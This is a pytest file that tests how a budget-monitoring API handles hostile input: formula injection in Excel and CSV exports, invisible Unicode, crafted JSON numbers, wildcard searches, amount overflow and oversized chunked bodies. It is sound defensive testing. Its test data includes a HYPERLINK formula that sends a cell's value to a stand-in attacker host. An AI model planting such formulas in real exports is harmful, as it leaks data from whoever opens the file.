"""Hostile input (issue 10, items 2, 8, 9 and part of 12): text that would be a
formula or break a workbook, crafted JSON numbers and escapes, numbers that
would make arithmetic explode, blank comments, LIKE wildcards, totals beyond
the largest amount, and chunked bodies above the size limit."""

from __future__ import annotations

import csv
import http.client
import io
import json
import threading
from io import BytesIO
from unittest import mock

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select
from werkzeug.serving import make_server

from db import db
from db.models import Ppa
from tests.support import Chain, cli, ppa_body
from workflow.text import CSV_FORMULA_STARTS

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Details")', "+SUM(1,2)", "-2+3", "@SUM(A1:A2)", "\t=1+1",
            "\r=1+1"]


def workbook_cells(response):
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    book = load_workbook(BytesIO(response.data))  # every sheet: the MFBM report's Pipeline sheet too
    return [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]


# -- item 2: formula injection, characters that break workbooks ---------------------------------------

def test_formula_like_text_is_a_string_cell_in_both_workbooks(world):
    world.org("MSSD", FORMULAS[0])  # the agency name of the FAR No. 1 rows
    chain = Chain(world)
    chain.allot("1000000.00")
    for text in FORMULAS:
        world.create_ppa(title=text, program_code=text, sector=text.strip()[:50])

    mfbm = workbook_cells(world.client.get("/api/reports/mfbm-budget-execution.xlsx?fiscal_year=2025",
                                           headers=world.admin.headers))
    far1 = workbook_cells(world.client.get("/api/reports/far1.xlsx?fiscal_year=2025&moa=MSSD",
                                           headers=world.admin.headers))  # the agency of the header block

    assert {c.data_type for c in mfbm + far1 if isinstance(c.value, str)} == {"s"}  # never "f" (formula)
    # As title and as code, verbatim (a carriage return may read back as a line feed: it does with the
    # standard library's XML parser, not with lxml's)
    mfbm_texts = [c.value.replace("\r", "\n") if isinstance(c.value, str) else c.value for c in mfbm]
    assert all(mfbm_texts.count(text.replace("\r", "\n")) == 2 for text in FORMULAS)
    assert FORMULAS[0] in [c.value for c in far1]


@pytest.mark.parametrize("character", ["\ufffe", "\uffff", "\ufdd0", "\U0001ffff", "\u0085", "\u009b", "\u202e",
                                       "\u2067", "\ud800"])
def test_characters_a_workbook_cannot_hold_or_that_hide_text_are_422_naming_the_field(app, world, character):
    body = json.dumps(ppa_body(summary=f"Road{character}works"))  # \ud800 goes as the JSON escape "\ud800"

    response = world.client.post("/api/monitoring-entries", data=body, content_type="application/json",
                                 headers=world.focal.headers)

    assert response.status_code == 422
    assert list(response.get_json()["errors"]) == ["summary"]
    assert f"U+{ord(character):04X} at position 5" in response.get_json()["errors"]["summary"][0]
    with app.app_context():
        assert db.session.scalar(select(func.count()).select_from(Ppa)) == 0


def test_a_refused_character_in_a_field_name_or_query_is_422_too(world):
    named = world.client.post("/api/monitoring-entries", data='{"ti\\u202etle": "x"}', content_type="application/json",
                              headers=world.focal.headers)
    query = world.client.get("/api/monitoring-entries?q=abc%E2%80%AEdef", headers=world.focal.headers)
    surrogate_key = world.client.post("/api/monitoring-entries", data='{"\\udc80": 1}', content_type="application/json",
                                      headers=world.focal.headers)

    assert named.status_code == 422 and list(named.get_json()["errors"]) == ["ti\\u202etle"]
    assert query.status_code == 422 and "U+202E" in query.get_json()["errors"]["q"][0]
    assert surrogate_key.status_code == 422 and list(surrogate_key.get_json()["errors"]) == ["\\udc80"]


def test_the_audit_csv_keeps_formula_like_text_inert_and_round_trips(world):
    ppa = world.client.post("/api/monitoring-entries", json=ppa_body(title=FORMULAS[0]),
                            headers=world.focal.headers | {"X-Request-ID": "-A1"}).get_json()

    response = world.client.get(f"/api/audit.csv?entity=ppa&id={ppa['id']}", headers=world.admin.headers)

    text = response.get_data(as_text=True)
    assert all(line.startswith('"') for line in text.splitlines())  # every field quoted
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    fields = [value for row in rows for value in row.values()]
    assert not [f for f in fields if f[:1] in CSV_FORMULA_STARTS - {"'"}]
    assert rows[0]["request_id"] == "'-A1"  # OWASP: a leading quote, dropped when read back
    assert json.loads(rows[0]["new_value"])["title"] == FORMULAS[0]


# -- item 8: crafted JSON on every write operation ----------------------------------------------------

CRAFTED = {
    "integer of 5,000 digits": "1" * 5000,
    "exponent of a billion": "1E+999999999",
    "negative exponent of a billion": "-1E-999999999",
    "escaped lone surrogate": '"\\ud800"',
}


def write_operations(client) -> list[tuple[str, str, dict | None]]:
    """``(method, path, request schema or None)`` of every documented
    write operation, path parameters filled in."""
    spec = client.get("/api/openapi.json").get_json()
    schemas = spec["components"]["schemas"]
    operations = []
    for path, item in spec["paths"].items():
        for method, operation in item.items():
            if method not in ("post", "put", "patch", "delete"):
                continue
            schema = operation.get("requestBody", {}).get("content", {}).get("application/json", {}).get("schema")
            if schema and "$ref" in schema:
                schema = schemas[schema["$ref"].rsplit("/", 1)[1]]
            filled = path.replace("{job_id}", "x").replace("{", "").replace("}", "")
            for parameter in operation.get("parameters", []) + item.get("parameters", []):
                if parameter.get("in") == "path":
                    filled = filled.replace(parameter["name"], "1")
            operations.append((method.upper(), filled, schema))
    return operations


def test_crafted_json_is_a_problem_on_every_write_operation(world):
    operations = write_operations(world.client)
    assert len([o for o in operations if o[2]]) >= 20, operations  # every POST and PATCH with a body

    failures = []
    for method, path, schema in operations:
        for kind, raw in CRAFTED.items():
            names = list((schema or {}).get("properties", {})) or ["value"]
            body = "{" + ", ".join(f'"{name}": {raw}' for name in names) + "}"
            response = world.client.open(path, method=method, data=body, content_type="application/json",
                                          headers=world.admin.headers | {"If-Match": '"1"'})
            problem = response.get_json(silent=True) or {}
            if schema is None:  # takes no body: the crafted one is never read
                refused = response.status_code >= 500
            else:
                refused = response.status_code not in (400, 422) or response.mimetype != "application/problem+json" \
                    or (response.status_code == 422 and not set(problem.get("errors", {})) & set(names))
            if refused:
                failures.append((method, path, kind, response.status_code, problem.get("detail")))

    assert failures == []


# -- item 9: numbers that would make arithmetic explode -------------------------------------------------

@pytest.mark.parametrize("weight", ["1E-20000000", '"1E-20000000"', "1E+20000000", "0." + "0" * 5000 + "1"])
def test_a_weight_beyond_the_number_bounds_is_422_before_any_split(world, weight):
    ppa, _ = world.tracked_ppa("budget_review", template="program")
    phases = [n["work_item_id"] for n in world.tree(ppa["id"])["breakdown"][0]["children"]]
    path = f"/api/monitoring-entries/{ppa['id']}/distribute_budget/"
    hostile = '{"method": "weighted", "weights": {"%d": 0.5, "%d": 0.5, "%d": %s}}' % (*phases, weight)

    with mock.patch("workflow.tree.split_centavos") as split:
        refused = world.client.post(path, data=hostile, content_type="application/json", headers=world.focal.headers)
        refused_split_calls = split.call_count
    normal = world.client.post(path, json={"method": "weighted", "weights": dict(zip(map(str, phases),
                                                                                   ["0.5", "0.3", "0.2"]))},
                               headers=world.focal.headers)

    assert refused.status_code == 422
    assert [name.split(".")[:2] for name in refused.get_json()["errors"]] == [["weights", str(phases[2])]]
    assert refused_split_calls == 0
    assert normal.status_code == 200  # the same request with a sane weight splits


# -- item 12: blank comments, LIKE wildcards, totals, chunked bodies -------------------------------------

@pytest.mark.parametrize("comment", ["   ", "\u200b", "\ufeff", "\u00a0\u200b\u2060", "\u3164"])
def test_a_comment_of_whitespace_or_invisible_characters_does_not_satisfy_comment_required(world, comment):
    ppa = world.create_ppa()
    world.fire(ppa["id"], "submit", world.focal)

    refused = world.fire(ppa["id"], "reject", world.technical_reviewer, comment=comment)
    accepted = world.fire(ppa["id"], "reject", world.technical_reviewer, comment="\u200bincomplete costing ")

    assert refused.status_code == 422 and "comment" in refused.get_json()["errors"]
    assert accepted.status_code == 200
    history = world.client.get(f"/api/monitoring-entries/{ppa['id']}/history", headers=world.focal.headers).get_json()
    assert history[-1]["comment"] == "\u200bincomplete costing"


def test_the_cli_applies_the_same_comment_rules(app, world):
    ppa = world.create_ppa()
    world.fire(ppa["id"], "submit", world.focal)
    world.technical_reviewer  # noqa: B018 - created before the CLI acts as them

    blank = cli(app, "ppa", "transition", str(ppa["id"]), "reject", "--as", "bpda.reviewer", "--comment", "\u200b ")
    hidden = cli(app, "ppa", "transition", str(ppa["id"]), "reject", "--as", "bpda.reviewer", "--comment", "ok\u202e")

    assert blank.exit_code != 0 and "a comment is required to reject" in blank.output
    assert hidden.exit_code != 0 and "U+202E" in hidden.output
    assert world.get(ppa["id"], world.focal)["approval_status"] == "technical_review"


def test_q_matches_percent_and_underscore_literally(world):
    for title in ("100% complete", "100 percent", "road_works", "roadXworks"):
        world.create_ppa(title=title)

    def titles(q):
        response = world.client.get(f"/api/monitoring-entries?q={q}", headers=world.focal.headers)
        assert response.status_code == 200
        return sorted(p["title"] for p in response.get_json())

    assert titles("%25") == ["100% complete"]
    assert titles("0%25 c") == ["100% complete"]
    assert titles("d_w") == ["road_works"]
    assert titles("/") == []  # the escape character itself is literal too


def test_expenditure_never_takes_a_total_above_the_largest_amount(world):
    ppa, leaf = world.tracked_ppa("budget_review", template="program")
    tree = world.tree(ppa["id"])
    other = tree["breakdown"][0]["children"][1]["children"][0]["work_item_id"]
    path = f"/api/work-items/{leaf}/expenditures"

    first = world.client.post(path, json={"amount": "999999999999.00"}, headers=world.focal.headers)
    over = world.client.post(path, json={"amount": "1.00"}, headers=world.focal.headers)
    elsewhere = world.client.get(f"/api/work-items/{other}", headers=world.focal.headers)
    patched = world.client.patch(f"/api/work-items/{other}", json={"actual_expenditure": "1.00"},
                                 headers=world.focal.headers | {"If-Match": elsewhere.headers["ETag"]})
    last = world.client.post(path, json={"amount": "0.99"}, headers=world.focal.headers)

    assert first.status_code == 200
    assert over.status_code == 422 and over.get_json()["errors"]["amount"] == [
        "would bring the project's total expenditure to 1,000,000,000,000.00, above the maximum "
        "999,999,999,999.99 (PHP)"]
    assert patched.status_code == 422 and "actual_expenditure" in patched.get_json()["errors"]
    assert last.status_code == 200
    assert world.tree(ppa["id"])["total_expended"] == "999999999999.99"
    assert world.get(ppa["id"], world.focal)["actual_expenditure"] == "999999999999.99"


@pytest.fixture
def small_bodies(request, tmp_path):
    """The app with a 4 KiB body limit, served by werkzeug's server in a
    thread (the test client never sends chunked bodies)."""
    from tests.conftest import BACKENDS, _dispose, _make_app

    application = _make_app(BACKENDS[-1], request, tmp_path, MAX_CONTENT_LENGTH=4096)
    server = make_server("127.0.0.1", 0, application, threaded=True)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield application, server.server_port
    server.shutdown()
    thread.join()
    _dispose(application)


def post_chunked(port: int, token: str, body: bytes) -> tuple[int, dict]:
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    chunks = (body[i:i + 1000] for i in range(0, len(body), 1000))
    connection.request("POST", "/api/monitoring-entries", body=chunks, encode_chunked=True,
                       headers={"Authorization": f"Bearer {token}", "Content-Type": "application/json"})
    response = connection.getresponse()
    status, payload = response.status, json.loads(response.read() or b"{}")
    connection.close()
    return status, payload


def test_a_chunked_body_above_the_limit_is_413_never_cut_and_accepted(small_bodies):
    from tests.support import World

    application, port = small_bodies
    world = World(application)
    valid = json.dumps(ppa_body()).encode()
    padded = valid + b" " * (4096 - len(valid)) + b' , "extra": "the limit cuts before this"}'

    small = post_chunked(port, world.focal.token, valid)
    large = post_chunked(port, world.focal.token, padded)

    assert small[0] == 201
    assert large[0] == 413 and large[1]["code"] == "payload_too_large"
    with application.app_context():
        assert db.session.scalar(select(func.count()).select_from(Ppa)) == 1
